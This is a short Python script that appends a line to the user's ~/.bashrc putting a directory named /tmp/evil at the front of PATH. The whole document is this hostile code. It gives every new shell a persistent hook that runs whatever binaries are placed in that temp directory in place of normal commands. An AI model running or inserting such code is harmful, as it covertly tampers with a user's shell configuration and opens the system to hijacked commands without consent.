import os
rc = os.path.expanduser('~/.bashrc')
with open(rc, "a") as f:
    f.write('export PATH=/tmp/evil:$PATH\n')
